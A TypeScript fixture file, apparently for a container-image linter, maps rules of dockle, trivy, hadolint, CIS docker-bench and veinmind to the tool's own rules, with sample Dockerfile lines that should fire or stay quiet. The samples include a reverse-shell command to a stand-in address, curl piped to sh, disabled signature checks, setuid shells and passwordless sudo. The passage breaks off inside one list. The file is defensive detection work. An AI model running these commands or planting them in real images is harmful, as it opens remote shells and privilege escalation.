import type { TarEntry } from './tar.ts';

/** An image: its build file, and what else matters. */
export type Sample =
  | string
  | {
      readonly file: string;
      /** Files of its last layer. */
      readonly files?: readonly TarEntry[];
      /** `name:tag`. */
      readonly names?: readonly string[];
      readonly format?: 'docker' | 'oci';
      readonly created?: string;
    };

/** How what another tool asks is answered here. */
export interface Answer {
  readonly peer: string;
  /** One id of the other tool. */
  readonly id: string;
  /** Its row in the list, where several ids share one; default: the id. */
  readonly row?: string;
  /** What findings bear of the other tool; undefined where ours bear nothing of it. */
  readonly alias?: string;
  /** Rules of ours that tell it of the images below, or the kind of finding where rules are many. */
  readonly by: readonly string[];
  readonly fires: readonly Sample[];
  readonly quiet: readonly Sample[];
  /** The only builder that records enough. */
  readonly only?: 'buildkit' | 'legacy';
  /** Images of which it cannot be told, and the rule that says so. */
  readonly undecided?: readonly {
    readonly sample: Sample;
    readonly builder: 'buildkit' | 'legacy';
    readonly rule: string;
  }[];
  /** Where ours is not what the other does: why. */
  readonly better?: string;
}

type More = Partial<Pick<Answer, 'row' | 'only' | 'undecided' | 'better'>>;

/** One id that findings here bear. */
function same(
  peer: string,
  id: string,
  by: string | readonly string[],
  fires: Sample | readonly Sample[],
  quiet: Sample | readonly Sample[],
  more: More = {},
): Answer {
  return { peer, id, alias: id, by: [by].flat(), fires: [fires].flat(), quiet: [quiet].flat(), ...more };
}

/** What is told under ids of ours alone. */
function own(...answer: Parameters<typeof same>): Answer {
  const { alias: _, ...rest } = same(...answer);
  return rest;
}

/** What no finding answers. */
function elsewhere(peer: string, id: string, better: string): Answer {
  return { peer, id, by: [], fires: [], quiet: [], better };
}

/** An image whose last layer has files; their text, or what else a member of an archive can say. */
function withFiles(files: Readonly<Record<string, string | Omit<TarEntry, 'path'>>>, file = 'RUN make'): Sample {
  const members = Object.entries(files).map(([path, what]): TarEntry => {
    return { path, ...(typeof what === 'string' ? { content: what } : what) };
  });
  // Builders write the directories, too.
  const parents = Object.keys(files).flatMap((path) => {
    const parts = path.split('/').slice(0, -1);
    return parts.map((_, index) => parts.slice(0, index + 1).join('/'));
  });
  const directories = [...new Set(parents)].toSorted().map((path): TarEntry => ({ path, type: 'directory' }));
  return { file, files: [...directories, ...members] };
}

/** Written so that no scanner of this repository takes it for a password. */
const password: string = ['Vq7', 'tR2w', 'Zk9'].join('m');

const passwd = 'root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n';
const elf: Buffer = Buffer.from('\x7fELF\x02\x01\x01\0'.padEnd(64, '\0'), 'latin1');
const byFiles = 'The files of the layer decide: mounts and hooks leave no cache behind, whatever the command says.';
const health = 'HEALTHCHECK CMD ["/srv/app", "--health"]';
const lists = { 'var/lib/apt/lists/deb_main_Packages': 'Package: x\n' };
const apkIndex = { 'var/cache/apk/APKINDEX.0.tar.gz': 'x' };
const base = (name: string): string => `LABEL org.opencontainers.image.base.name=${name}`;

const adds: readonly Sample[] = ['ADD app /srv/app', 'ADD rootfs.tar /\nADD conf.json /etc/'];
const copies: readonly Sample[] = ['COPY app /srv/app', 'ADD rootfs.tar /'];
const root: readonly Sample[] = [
  'CMD ["/srv/app"]',
  'USER root',
  'USER 0',
  'USER 0:0',
  'USER app\nUSER root',
  withFiles({ 'etc/passwd': 'toor:x:0:0::/root:/bin/sh\n' }, 'RUN make\nUSER toor'),
];
const notRoot: readonly Sample[] = ['USER root\nUSER 10001', withFiles({ 'etc/passwd': passwd }, 'RUN make\nUSER app')];
const noHealth: readonly Sample[] = ['CMD ["/srv/app"]', 'HEALTHCHECK NONE'];
const noHealthInOci: NonNullable<Answer['undecided']> = [
  { sample: { file: 'RUN make', format: 'oci' }, builder: 'buildkit', rule: 'healthcheck-missing' },
];
const secretSamples: readonly Sample[] = [
  `ENV DB_PASSWORD=${password}`,
  `ARG API_TOKEN=${password}\nRUN make`,
  ...['.npmrc', 'credential.json', 'credentials', 'password.txt', 'id_ed25519', 'secret_token.rb', 'database.yml'].map(
    (name) => `COPY ${name} /root/`,
  ),
  ...['x.secret', 'x.ovpn', 'x.private_key', 'x.jks', 'x.psafe3', 'x.keychain', 'x.pem', 'x.p12'].map(
    (name) => `COPY ${name} /root/`,
  ),
  `RUN echo 'root:${password}' | chpasswd`,
];
const secretRules: readonly string[] = ['secret-by-argument', 'copy-sensitive-file', 'password-in-instruction'];
const noSecrets: readonly Sample[] = [
  'ENV GPG_KEY=E3FF2839C048B25C',
  'ENV KEYBOARD=us ACCESS_LOG=/dev/stdout',
  'COPY settings.py omniauth.rb public.asc /srv/',
  'COPY a /b',
];
const setuid: readonly Sample[] = [
  withFiles({ 'usr/bin/find': { content: elf, mode: 0o4755 } }),
  withFiles({ 'usr/local/bin/own': { content: elf, mode: 0o2755 } }),
];
const noSetuid: Sample = withFiles({ 'usr/bin/find': { content: elf, mode: 0o755 } });
const legacyCopy = 'The legacy builder records a digest in the place of the names.';
const ofOneBuild =
  'Those of base images stand in the history, too: entries of one build alone count, and with low confidence.';

const dockle: readonly Answer[] = [
  same('dockle', 'CIS-DI-0001', 'user-root', root, notRoot),
  same('dockle', 'CIS-DI-0006', 'healthcheck-missing', noHealth, health, {
    undecided: noHealthInOci,
    better: 'HEALTHCHECK NONE is told as well: nothing tells of the health then.',
  }),
  same(
    'dockle',
    'CIS-DI-0007',
    'package-index-alone',
    'RUN apt-get update',
    'RUN apt-get update && apt-get install -y curl',
  ),
  same('dockle', 'CIS-DI-0008', 'setuid-file', setuid, noSetuid),
  same('dockle', 'CIS-DI-0009', 'add-instead-of-copy', adds, [...copies, 'ADD app /srv/app'.replace('ADD', 'COPY')]),
  same('dockle', 'CIS-DI-0010', secretRules, secretSamples, noSecrets, {
    only: 'buildkit',
    better: 'Names alone do not do: what the value looks like counts, and what is in files the check `secrets` finds.',
  }),
  own(
    'dockle',
    'CIS-DI-0010',
    'secret',
    [`ENV DB_PASSWORD=${password}`, withFiles({ 'root/.pgpass': `db:5432:app:app:${password}\n` })],
    noSecrets,
  ),
  same('dockle', 'DKL-DI-0001', 'sudo-in-run', 'RUN sudo apt-get update', 'RUN echo sudo'),
  same(
    'dockle',
    'DKL-DI-0002',
    'volume-system-directory',
    ['/sys', '/dev', '/proc', '/', '/etc', '/var/run', '/var/run/docker.sock', '/root', '/home/app'].map(
      (place) => `VOLUME ${place}`,
    ),
    ['VOLUME /data', 'VOLUME /var/lib/app /srv/devices'],
  ),
  same('dockle', 'DKL-DI-0003', 'distribution-upgrade', 'RUN apt-get dist-upgrade -y', 'RUN apt-get upgrade -y'),
  same(
    'dockle',
    'DKL-DI-0004',
    'apk-cache-kept',
    withFiles(apkIndex, 'RUN apk add curl'),
    'RUN apk add --no-cache curl',
    { better: byFiles },
  ),
  same(
    'dockle',
    'DKL-DI-0005',
    'apt-lists-kept',
    withFiles(lists, 'RUN apt-get update && apt-get install -y curl'),
    'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*',
    { better: byFiles },
  ),
  same(
    'dockle',
    'DKL-DI-0006',
    'tag-latest',
    { file: 'RUN make', names: ['app:latest'] },
    { file: 'RUN make', names: ['app:1.2'] },
  ),
  same(
    'dockle',
    'DKL-LI-0001',
    'account-without-password',
    withFiles({ 'etc/shadow': 'root::19000:0:99999:7:::\n' }),
    withFiles({ 'etc/shadow': 'root:*:19000:0:99999:7:::\n' }),
  ),
  same(
    'dockle',
    'DKL-LI-0002',
    ['account-repeated', 'account-second-root'],
    [
      withFiles({ 'etc/passwd': `${passwd}twin:x:1000:1000::/:/bin/sh\n` }),
      withFiles({ 'etc/passwd': `${passwd}app:x:1001:1001::/:/bin/sh\n` }),
      withFiles({ 'etc/group': 'a:x:100:\nb:x:100:\n' }),
      withFiles({ 'etc/passwd': `${passwd}toor:x:0:0::/root:/bin/sh\n` }),
    ],
    withFiles({ 'etc/passwd': passwd, 'etc/group': 'root:x:0:\napp:x:1000:\n' }),
  ),
  same(
    'dockle',
    'DKL-LI-0003',
    'left-over',
    [
      'srv/Dockerfile',
      'srv/docker-compose.yml',
      'srv/.git/HEAD',
      'root/.aws/config',
      'root/.npm/x',
      'root/.cache/x',
      'srv/.vscode/x',
      'srv/.idea/x',
      'srv/.DS_Store',
      'root/.vimrc',
      'root/.gcp/x',
    ].map((path) => withFiles({ [path]: 'x' })),
    withFiles({ 'srv/app.js': 'x' }),
  ),
];

const trivy: readonly Answer[] = [
  same('trivy-checks', 'DS-0001', 'base-tag-latest', [base('debian'), base('debian:latest')], base('debian:13'), {
    undecided: [{ sample: 'RUN make', builder: 'buildkit', rule: 'base-tag-latest' }],
    better: 'FROM is in no history: the label of the base image decides, and without it that is said.',
  }),
  same('trivy-checks', 'DS-0002', 'user-root', root, notRoot),
  same('trivy-checks', 'DS-0004', 'port-ssh', 'EXPOSE 22', 'EXPOSE 2222'),
  same('trivy-checks', 'DS-0005', 'add-instead-of-copy', adds, copies),
  same('trivy-checks', 'DS-0007', 'entrypoint-repeated', 'ENTRYPOINT ["a"]\nENTRYPOINT ["b"]', 'ENTRYPOINT ["a"]', {
    better: ofOneBuild,
  }),
  same('trivy-checks', 'DS-0008', 'port-out-of-range', 'EXPOSE 65536', ['EXPOSE 65535', 'EXPOSE 7000-7010']),
  own('trivy-checks', 'DS-0009', 'workdir-relative', [], [], {
    undecided: [
      { sample: 'WORKDIR app', builder: 'buildkit', rule: 'workdir-relative' },
      { sample: 'WORKDIR app', builder: 'legacy', rule: 'workdir-relative' },
    ],
    better:
      'The builders of Docker record the path that came out of it; buildah records what was written, and that is told.',
  }),
  same(
    'trivy-checks',
    'DS-0010',
    'sudo-in-run',
    ['RUN sudo apt-get update', 'RUN make && sudo make install'],
    'RUN echo sudo',
  ),
  same('trivy-checks', 'DS-0011', 'copy-without-slash', 'COPY a b /srv', ['COPY a b /srv/', 'COPY a /srv'], {
    only: 'buildkit',
    better: legacyCopy,
  }),
  same(
    'trivy-checks',
    'DS-0013',
    'cd-in-run',
    'RUN cd /srv && make',
    ['WORKDIR /srv\nRUN make', 'RUN make && cd /srv && ls && cd /tmp', 'RUN make && cd /'],
    { better: 'Only a `cd` at the beginning is what WORKDIR would say; at the end it has no effect on anything.' },
  ),
  same(
    'trivy-checks',
    'DS-0014',
    'wget-and-curl',
    'RUN wget -q https://example.org/a\nRUN curl https://example.org/b',
    'RUN curl https://example.org/a && curl https://example.org/b',
  ),
  same(
    'trivy-checks',
    'DS-0015',
    'yum-cache-kept',
    withFiles({ 'var/cache/yum/x': 'x' }, 'RUN yum install -y curl'),
    'RUN yum install -y curl && yum clean all',
    { better: byFiles },
  ),
  same('trivy-checks', 'DS-0016', 'command-repeated', 'CMD ["a"]\nCMD ["b"]', 'CMD ["a"]', { better: ofOneBuild }),
  same(
    'trivy-checks',
    'DS-0017',
    'package-index-alone',
    ['RUN apt-get update', 'RUN zypper refresh', 'RUN dnf makecache', 'RUN apk update'],
    ['RUN apt-get update && apt-get install -y curl', 'RUN dnf update -y', 'RUN yum update -y', 'RUN zypper up -y'],
    { better: 'With yum, dnf and zypper `update` installs: it is not what fetches the index alone.' },
  ),
  same(
    'trivy-checks',
    'DS-0019',
    'dnf-cache-kept',
    withFiles({ 'var/cache/dnf/x': 'x' }, 'RUN dnf install -y curl'),
    'RUN dnf install -y curl && dnf clean all',
    { better: byFiles },
  ),
  same(
    'trivy-checks',
    'DS-0020',
    'zypper-cache-kept',
    withFiles({ 'var/cache/zypp/x': 'x' }, 'RUN zypper -n in curl'),
    'RUN zypper -n in curl && zypper clean -a',
    { better: byFiles },
  ),
  same('trivy-checks', 'DS-0021', 'apt-unattended', 'RUN apt-get install curl', [
    'RUN apt-get -y install curl',
    'RUN apt-get install -qq curl',
    'RUN apt-get install -q=2 curl',
  ]),
  same(
    'trivy-checks',
    'DS-0022',
    'maintainer-deprecated',
    'MAINTAINER a@example.org',
    'LABEL org.opencontainers.image.authors=a@example.org',
  ),
  same('trivy-checks', 'DS-0023', 'healthcheck-repeated', `${health}\n${health}`, health, { better: ofOneBuild }),
  same(
    'trivy-checks',
    'DS-0024',
    'distribution-upgrade',
    'RUN apt-get update && apt-get dist-upgrade',
    'RUN apt-get update && apt-get upgrade',
  ),
  same(
    'trivy-checks',
    'DS-0025',
    'apk-cache-kept',
    withFiles(apkIndex, 'RUN apk add curl'),
    ['RUN apk add --no-cache curl', 'RUN --mount=type=cache,target=/var/cache/apk apk add curl'],
    { better: byFiles },
  ),
  same('trivy-checks', 'DS-0026', 'healthcheck-missing', noHealth, health, { undecided: noHealthInOci }),
  same(
    'trivy-checks',
    'DS-0027',
    'dnf-cache-kept',
    withFiles({ 'var/cache/yum/x': 'x' }, 'RUN microdnf install -y curl'),
    'RUN microdnf install -y curl && microdnf clean all',
    { better: byFiles },
  ),
  same(
    'trivy-checks',
    'DS-0029',
    'apt-recommends',
    'RUN apt-get install -y curl',
    'RUN apt-get install -y --no-install-recommends curl',
  ),
  same(
    'trivy-checks',
    'DS-0030',
    'workdir-system-directory',
    [
      'WORKDIR /proc',
      'WORKDIR /proc/self/fd/8',
      'WORKDIR /sys/fs/cgroup',
      'WORKDIR /boot',
      'WORKDIR /initrd',
      'WORKDIR /lost+found/x',
      'WORKDIR /dev',
    ],
    'WORKDIR /srv/proc',
  ),
  same('trivy-checks', 'DS-0031', secretRules, secretSamples, noSecrets, { only: 'buildkit' }),
  own(
    'trivy',
    'image-config secret',
    'secret',
    [
      `ENV DB_PASSWORD=${password}`,
      `CMD ["/srv/app", "--password=${password}"]`,
      `LABEL db.password=${password}`,
      `ONBUILD ENV DB_PASSWORD=${password}`,
    ],
    'ENV DB_HOST=db',
    {
      better: 'It is on without being asked for.',
    },
  ),
];

const label = (name: string, value: string): string => `LABEL org.opencontainers.image.${name}="${value}"`;
const schema =
  'Which labels an image has to have is a matter of whoever runs it; labels of the OCI specification have its forms.';

const hadolint: readonly Answer[] = [
  own('hadolint', 'DL3000', 'workdir-relative', [], [], {
    undecided: [{ sample: 'WORKDIR app', builder: 'buildkit', rule: 'workdir-relative' }],
    better:
      'The builders of Docker record the path that came out of it; buildah records what was written, and that is told.',
  }),
  same(
    'hadolint',
    'DL3001',
    'pointless-command',
    [
      'ssh host',
      'vim /etc/x',
      'shutdown -h now',
      'service x start',
      'ps aux',
      'free',
      'top',
      'kill 1',
      'mount /dev/x /mnt',
    ].map((line) => `RUN ${line}`),
    'RUN echo top',
  ),
  same('hadolint', 'DL3002', 'user-root', 'USER app\nUSER root', 'USER root\nUSER 1000'),
  same(
    'hadolint',
    'DL3003',
    'cd-in-run',
    'RUN cd /opt && git clone https://example.org/x',
    'RUN git clone https://example.org/x /opt',
  ),
  same(
    'hadolint',
    'DL3004',
    'sudo-in-run',
    ['RUN sudo apt-get update', 'ONBUILD RUN apt-get update && sudo apt-get install'],
    'RUN apt-get install -y sudo',
  ),
  same(
    'hadolint',
    'DL3006',
    'base-tag-latest',
    base('debian'),
    [base('debian:12'), base(`debian@sha256:${'0'.repeat(64)}`)],
    { row: 'DL3006/DL3007' },
  ),
  same('hadolint', 'DL3007', 'base-tag-latest', base('debian:latest'), base('debian:12'), { row: 'DL3006/DL3007' }),
  same('hadolint', 'DL3008', 'apt-unpinned', 'RUN apt-get update && apt-get install -y python', [
    'RUN apt-get install -y python=2.7',
    'RUN apt-get update && apt-get upgrade',
    'RUN apt-get install -y ./x.deb',
  ]),
  same(
    'hadolint',
    'DL3009',
    'apt-lists-kept',
    withFiles(lists, 'RUN apt-get update && apt-get install -y python'),
    'RUN apt-get update && apt-get install -y python && rm -rf /var/lib/apt/lists/*',
    { better: byFiles },
  ),
  same(
    'hadolint',
    'DL3010',
    'copy-then-unpack',
    ['COPY app.tar.gz /tmp/\nRUN tar -xzf /tmp/app.tar.gz', 'COPY build/app.tar /a.tar\nRUN tar -xf /a.tar'],
    'COPY app /tmp/\nRUN tar -xf /srv/other.tar',
    { only: 'buildkit', better: legacyCopy },
  ),
  same('hadolint', 'DL3011', 'port-out-of-range', 'EXPOSE 80000', ['EXPOSE 60000', 'EXPOSE 40000-60000/tcp']),
  same('hadolint', 'DL3012', 'healthcheck-repeated', `${health}\n${health}`, health, { better: ofOneBuild }),
  same(
    'hadolint',
    'DL3013',
    'pip-unpinned',
    [
      'RUN pip install flask',
      'RUN python3 -m pip install flask',
      'RUN pipx install black',
      'RUN pip install git+https://example.org/x.git#egg=x',
    ],
    [
      'RUN pip install flask==3.0',
      'RUN pip install -r requirements.txt',
      'RUN pip install .',
      'RUN pip install foo/bar',
      'RUN pip install --root-user-action ignore poetry==1.8.5',
      'RUN pip install git+https://example.org/x@v1#egg=x',
    ],
  ),
  same(
    'hadolint',
    'DL3014',
    'apt-unattended',
    ['RUN apt-get install python', 'RUN apt-get install -q python'],
    ['RUN apt-get install -y python', 'RUN apt-get install -q -q python', 'RUN apt-get install -qqy python'],
  ),
  same('hadolint', 'DL3015', 'apt-recommends', 'RUN apt-get install -y python', [
    'RUN apt-get install -y --no-install-recommends python',
    'RUN apt-get install -y -o APT::Install-Recommends=false python',
  ]),
  same(
    'hadolint',
    'DL3016',
    'npm-unpinned',
    ['RUN npm install express', 'RUN npm install -g @org/x', 'RUN npm install git+https://example.org/x.git'],
    [
      'RUN npm ci',
      'RUN npm install express@4.1.1',
      'RUN npm install git+https://example.org/x.git#v1.0',
      'RUN npm install x-1.2.tar',
    ],
  ),
  same('hadolint', 'DL3018', 'apk-unpinned', 'RUN apk add --no-cache flex', 'RUN apk add --no-cache flex=2.6.4-r1', {
    row: 'DL3018/DL3019',
  }),
  same(
    'hadolint',
    'DL3019',
    'apk-cache-kept',
    withFiles(apkIndex, 'RUN apk add flex=2.6.4-r1'),
    'RUN apk add --no-cache flex=2.6.4-r1',
    { row: 'DL3018/DL3019', better: byFiles },
  ),
  same('hadolint', 'DL3020', 'add-instead-of-copy', ['ADD file /usr/src/app/'], ['COPY file /usr/src/app/']),
  same(
    'hadolint',
    'DL3020',
    'add-instead-of-copy',
    ['ADD file /usr/src/app/'],
    ['ADD file.tgz /srv/', 'ADD file.gz /srv/', 'ADD https://example.org/x /srv/'],
    { only: 'buildkit', better: 'The legacy builder records a digest: of one file it is told with less confidence.' },
  ),
  same(
    'hadolint',
    'DL3025',
    'start-shell-form',
    ['CMD something', 'ENTRYPOINT something'],
    ['CMD ["something"]', 'CMD exec something'],
    { better: 'A line that begins with `exec` gives its place to the program, and is let pass.' },
  ),
  elsewhere('hadolint', 'DL3026', 'Which registries are trusted is a list of whoever runs it.'),
  same('hadolint', 'DL3027', 'apt-for-scripts', 'RUN apt install curl', 'RUN apt-get install curl'),
  same('hadolint', 'DL3028', 'gem-unpinned', 'RUN gem install bundler', [
    'RUN gem install bundler:1',
    'RUN gem install bundler -v 2',
    'RUN gem install bundler:2.0.1 -- --use-system-libraries true',
  ]),
  same('hadolint', 'DL3030', 'rpm-unattended', 'RUN yum install httpd', 'RUN yum install -y httpd', {
    row: 'DL3030/32/33',
  }),
  same(
    'hadolint',
    'DL3032',
    'yum-cache-kept',
    withFiles({ 'var/cache/yum/x': 'x' }, 'RUN yum clean all && yum install -y httpd'),
    'RUN yum install -y httpd && yum clean all',
    { row: 'DL3030/32/33', better: byFiles },
  ),
  same(
    'hadolint',
    'DL3033',
    'rpm-unpinned',
    ['RUN yum install -y tomcat', 'RUN yum module install -y tomcat'],
    ['RUN yum install -y tomcat-9.2', 'RUN yum module install -y tomcat:9'],
    { row: 'DL3030/32/33' },
  ),
  same(
    'hadolint',
    'DL3034',
    'zypper-unattended',
    'RUN zypper install httpd',
    ['RUN zypper -n install httpd', 'RUN zypper install -y httpd'],
    { row: 'DL3034..37' },
  ),
  same(
    'hadolint',
    'DL3035',
    'distribution-upgrade',
    ['RUN zypper dist-upgrade', 'RUN zypper dup'],
    'RUN zypper in httpd',
    { row: 'DL3034..37' },
  ),
  same(
    'hadolint',
    'DL3036',
    'zypper-cache-kept',
    withFiles({ 'var/cache/zypp/x': 'x' }, 'RUN zypper clean && zypper -n in httpd'),
    'RUN zypper -n in httpd && zypper cc',
    { row: 'DL3034..37', better: byFiles },
  ),
  same(
    'hadolint',
    'DL3037',
    'zypper-unpinned',
    'RUN zypper install -y tomcat',
    ['RUN zypper install -y tomcat=9', 'RUN zypper install -y "tomcat>=9"'],
    { row: 'DL3034..37' },
  ),
  same(
    'hadolint',
    'DL3038',
    'rpm-unattended',
    ['RUN dnf install httpd', 'RUN microdnf install httpd'],
    'RUN dnf install -y httpd',
    { row: 'DL3038/40/41' },
  ),
  same(
    'hadolint',
    'DL3040',
    'dnf-cache-kept',
    withFiles({ 'var/cache/libdnf5/x': 'x' }, 'RUN dnf in -y httpd'),
    ['RUN dnf install -y httpd && dnf clean all', 'RUN dnf install -y httpd && rm -rf /var/cache/libdnf5'],
    { row: 'DL3038/40/41', better: byFiles },
  ),
  same(
    'hadolint',
    'DL3041',
    'rpm-unpinned',
    ['RUN dnf install -y rpm-sign', 'RUN dnf module install -y tomcat'],
    ['RUN dnf install -y tomcat-9.0.1', 'RUN dnf module install -y tomcat:9'],
    { row: 'DL3038/40/41' },
  ),
  same(
    'hadolint',
    'DL3042',
    'pip-cache-kept',
    withFiles({ 'root/.cache/pip/x': 'x' }, 'RUN pip install x==1'),
    [
      'RUN pip install --no-cache-dir x==1',
      'ENV PIP_NO_CACHE_DIR=1\nRUN pip install x==1',
      'RUN --mount=type=cache,target=/root/.cache/pip pip install x==1',
    ],
    { better: byFiles },
  ),
  same(
    'hadolint',
    'DL3043',
    'onbuild-forbidden',
    ['ONBUILD ONBUILD RUN x', 'ONBUILD FROM debian', 'ONBUILD MAINTAINER x'],
    'ONBUILD RUN x',
  ),
  same('hadolint', 'DL3046', 'useradd-large-id', 'RUN useradd -u 123456 app', [
    'RUN useradd -l -u 123456 app',
    'RUN useradd -u 12345 app',
  ]),
  same('hadolint', 'DL3047', 'wget-progress', 'RUN wget https://example.org/x', [
    'RUN wget --progress=dot:giga https://example.org/x',
    'RUN wget -q https://example.org/x',
    'RUN wget -nv https://example.org/x',
  ]),
  ...['DL3048'].map((id) =>
    same(
      'hadolint',
      id,
      'label-name',
      ['LABEL com.docker.x=y', 'LABEL -x=y', 'LABEL x..y=z'],
      'LABEL org.example.x=y',
      { row: 'DL3048..DL3058' },
    ),
  ),
  same('hadolint', 'DL3049', 'label-empty', 'LABEL x=""', 'LABEL x=y', { row: 'DL3048..DL3058', better: schema }),
  same('hadolint', 'DL3050', 'label-form', label('revision', 'not a digest!'), label('revision', '0'.repeat(40)), {
    row: 'DL3048..DL3058',
    better: schema,
  }),
  same('hadolint', 'DL3051', 'label-empty', 'LABEL x=""', 'LABEL x=y', { row: 'DL3048..DL3058', better: schema }),
  same('hadolint', 'DL3052', 'label-form', label('url', 'no address'), label('url', 'https://example.org'), {
    row: 'DL3048..DL3058',
  }),
  same('hadolint', 'DL3053', 'label-form', label('created', 'yesterday'), label('created', '2026-01-31T12:00:00Z'), {
    row: 'DL3048..DL3058',
  }),
  same(
    'hadolint',
    'DL3054',
    'label-form',
    label('licenses', 'do what you want'),
    label('licenses', 'Apache-2.0 OR MIT'),
    { row: 'DL3048..DL3058' },
  ),
  same('hadolint', 'DL3055', 'label-form', label('revision', 'not a digest!'), label('revision', '0'.repeat(40)), {
    row: 'DL3048..DL3058',
  }),
  same('hadolint', 'DL3056', 'label-form', label('version', ' '), label('version', '1.2.3'), {
    row: 'DL3048..DL3058',
    better: 'The specification asks for no semantic version: a label of any version is right.',
  }),
  same('hadolint', 'DL3057', 'healthcheck-missing', 'CMD ["/srv/app"]', health, { undecided: noHealthInOci }),
  same('hadolint', 'DL3058', 'label-authors-form', label('authors', 'the team'), label('authors', 'a@example.org'), {
    row: 'DL3048..DL3058',
  }),
  same('hadolint', 'DL3059', 'consecutive-runs', 'RUN a\nRUN b', ['RUN a\nCOPY x /y\nRUN b', 'RUN a && b']),
  same(
    'hadolint',
    'DL3060',
    'yarn-cache-kept',
    withFiles({ 'usr/local/share/.cache/yarn/v6/x': 'x' }, 'RUN yarn install'),
    'RUN yarn install && yarn cache clean',
    { better: byFiles },
  ),
  same(
    'hadolint',
    'DL3062',
    'go-unpinned',
    [
      'RUN go install example.com/pkg',
      'RUN go install example.com/pkg@latest',
      'RUN go get example.com/pkg',
      'RUN go run example.com/pkg@latest',
    ],
    ['RUN go install example.com/pkg@v1.2.3', 'RUN go build ./...'],
  ),
  same(
    'hadolint',
    'DL3064',
    'secret-by-argument',
    [`ENV DB_PASSWORD=${password}`, `ARG API_TOKEN=${password}\nRUN make`],
    ['ENV KEYBOARD=us', 'ENV TOKEN_FILE=/run/secrets/token'],
  ),
  same('hadolint', 'DL3066', 'user-not-numeric', 'USER app', ['USER 10001', 'USER 10001:10001']),
  same('hadolint', 'DL3067', 'copy-whole-stage', 'COPY --from=build / /', 'COPY --from=build /out /usr/local/bin/', {
    only: 'buildkit',
    better: legacyCopy,
  }),
  same('hadolint', 'DL4000', 'maintainer-deprecated', 'MAINTAINER someone', 'LABEL maintainer=someone'),
  same(
    'hadolint',
    'DL4001',
    'wget-and-curl',
    'RUN wget -q https://example.org/x\nRUN curl https://example.org/y',
    'RUN wget -q https://example.org/x',
  ),
  same('hadolint', 'DL4003', 'command-repeated', 'CMD a\nCMD b', 'CMD a', { row: 'DL4003/DL4004', better: ofOneBuild }),
  same('hadolint', 'DL4004', 'entrypoint-repeated', 'ENTRYPOINT a\nENTRYPOINT b', 'ENTRYPOINT a', {
    row: 'DL4003/DL4004',
    better: ofOneBuild,
  }),
  same('hadolint', 'DL4005', 'shell-by-link', 'RUN ln -sfv /bin/bash /bin/sh', 'SHELL ["/bin/bash", "-c"]\nRUN make'),
  same('hadolint', 'DL4006', 'pipe-without-pipefail', 'RUN wget -O - https://example.org/x | wc -l > /number', [
    'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN wget -O - https://example.org/x | wc -l',
    'RUN set -o pipefail && wget -O - https://example.org/x | wc -l',
  ]),
  elsewhere(
    'hadolint',
    'SCxxxx',
    'ShellCheck is not run; what matters to an image of its rules is asked of commands by rules of our own.',
  ),
];

const CIS = 'docker-bench / CIS Docker 1.6 ch.4';

const cis: readonly Answer[] = [
  same(CIS, '4.1', 'user-root', root, withFiles({ 'etc/passwd': passwd }, 'USER 1000')),
  same(CIS, '4.2', 'base-tag-latest', base('debian'), base('debian:13'), {
    better: 'Whom to trust is a matter of whoever uses it; a base image that is not pinned is no known one.',
  }),
  same(
    CIS,
    '4.3',
    'apt-recommends',
    'RUN apt-get install -y curl',
    'RUN apt-get install -y --no-install-recommends curl',
  ),
  elsewhere(CIS, '4.4', 'It is what a scan does: vulnerabilities with what fixes them, and the check `end-of-life`.'),
  same(CIS, '4.6', 'healthcheck-missing', 'CMD ["/srv/app"]', health, { undecided: noHealthInOci }),
  same(CIS, '4.7', 'package-index-alone', 'RUN apt-get update', 'RUN apt-get update && apt-get install -y curl'),
  same(CIS, '4.8', 'setuid-file', setuid, noSetuid),
  same(
    CIS,
    '4.9',
    ['add-instead-of-copy', 'add-unverified'],
    ['ADD app /srv/app', 'ADD https://example.org/x /srv/x'],
    'COPY app /srv/app',
    { only: 'buildkit', better: legacyCopy },
  ),
  same(CIS, '4.10', secretRules, secretSamples, noSecrets, { only: 'buildkit' }),
  same(
    CIS,
    '4.11',
    ['verification-disabled', 'environment-unverified', 'package-from-address', 'verification-disabled-by-file'],
    [
      'RUN apt-get install -y --allow-unauthenticated x',
      'RUN yum install -y --nogpgcheck x',
      'RUN apk add --allow-untrusted x.apk',
      'RUN echo "deb [trusted=yes] https://example.org/ stable main" > /etc/apt/sources.list.d/x.list',
      'RUN npm install https://example.org/x.tgz',
      'ENV GIT_SSL_NO_VERIFY=1',
    ],
    'RUN apt-get install -y curl',
  ),
  same(
    CIS,
    '4.12',
    ['download-executed', 'download-unverified', 'verification-disabled', 'environment-unverified'],
    [
      'RUN curl -fsSL https://example.org/x | sh',
      'RUN curl -fsSLO https://example.org/a.tgz && tar -xzf a.tgz',
      'RUN curl -k https://example.org/x -o x',
      'ENV NODE_TLS_REJECT_UNAUTHORIZED=0',
    ],
    'RUN curl -fsSLO https://example.org/a.tgz && echo "00  a.tgz" | sha256sum -c && tar -xzf a.tgz',
  ),
];

const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
const host = 'It is asked of a running container and of its host, not of an image.';

const veinmind: readonly Answer[] = [
  same(
    'veinmind',
    'history:miner-repo',
    'miner',
    ['RUN git clone https://example.org/xmrig.git', 'RUN git clone https://example.org/ethminer.git'],
    'RUN git clone https://example.org/app.git',
  ),
  same(
    'veinmind',
    'history:unsafe-path',
    'path-unsafe',
    ['ENV PATH=/tmp/bin:/bin', 'ENV PATH=/dev/shm:/bin', 'ENV PATH=/bin:', 'ENV PATH=.:/bin'],
    'ENV PATH=/opt/app/bin:/bin',
  ),
  elsewhere('veinmind', 'basic', '`drydock history` and the head of every report tell it.'),
  elsewhere('veinmind', 'escape:mount', host),
  elsewhere('veinmind', 'escape:cap', host),
  elsewhere('veinmind', 'escape:cve', 'It is asked of the kernel of the host: an image has none that runs.'),
  same(
    'veinmind',
    'escape:priv',
    ['account-file-unprotected', 'setuid-file', 'sudoers-without-password', 'chmod-set-id', 'sudo-without-password'],
    [
      withFiles({ 'etc/passwd': { content: passwd, mode: 0o666 } }),
      withFiles({ 'etc/shadow': { content: 'root:*:19000::::::\n', mode: 0o644 } }),
      ...['bash', 'nmap', 'vim', 'find', 'more', 'less', 'nano', 'cp', 'awk'].map((name) =>
        withFiles({ [`usr/bin/${name}`]: { content: elf, mode: 0o4755 } }),
      ),
      withFiles({ 'etc/sudoers': { content: 'app ALL=(ALL) NOPASSWD: ALL\n', mode: 0o440 } }),
      'RUN chmod u+s /bin/cp',
